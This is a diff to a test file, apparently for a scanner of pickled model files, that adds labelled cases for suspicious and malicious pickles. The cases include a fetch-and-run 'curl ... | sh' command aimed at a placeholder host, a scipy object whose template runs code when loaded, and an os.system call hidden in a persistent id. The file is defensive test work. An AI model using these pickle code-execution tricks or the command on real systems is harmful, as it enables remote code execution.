@@ -314,6 +314,16 @@ def streams(add):
     add("persid-with-source", CLEAN,
         dumps(Persistent(("module", named("weighin_example.models.Net"), "net.py", "import os\nos.system('echo weighin')\n")), 2),
         "a persistent id ('module', class, file, source)", "old torch files carry source text in the persistent id; nothing else has it")
+    add("shell-string", SUSPICIOUS,
+        dumps({"notes": "curl http://weighin.invalid/x | sh"}),
+        "a dictionary with a shell command that fetches and runs", "something was going to run this text")
+    add("scipy-template-with-code", MALICIOUS,
+        dumps(NewObj(named("scipy.stats._distn_infrastructure.rv_continuous"), (),
+              {"_parse_arg_template": "print('weighin')\ndef _parse_args(self, loc=0, scale=1):\n    return (), loc, scale\n"})),
+        "a scipy distribution whose argument template prints", "the template is run when the state is set")
+    add("private-stdlib-name", SUSPICIOUS,
+        dumps([named("_weakrefset.WeakSet")]),
+        "a list that holds a class of a private module of the standard library", "an import without a call")
     add("next-buffer-payload", MALICIOUS,
         asm("PROTO 5", "NEXT_BUFFER", "READONLY_BUFFER", "POP", *PAYLOAD_P4, "STOP"),
         f"NEXT_BUFFER and READONLY_BUFFER, then {WHAT}", "opcodes of protocol 5 that older decoders do not know")
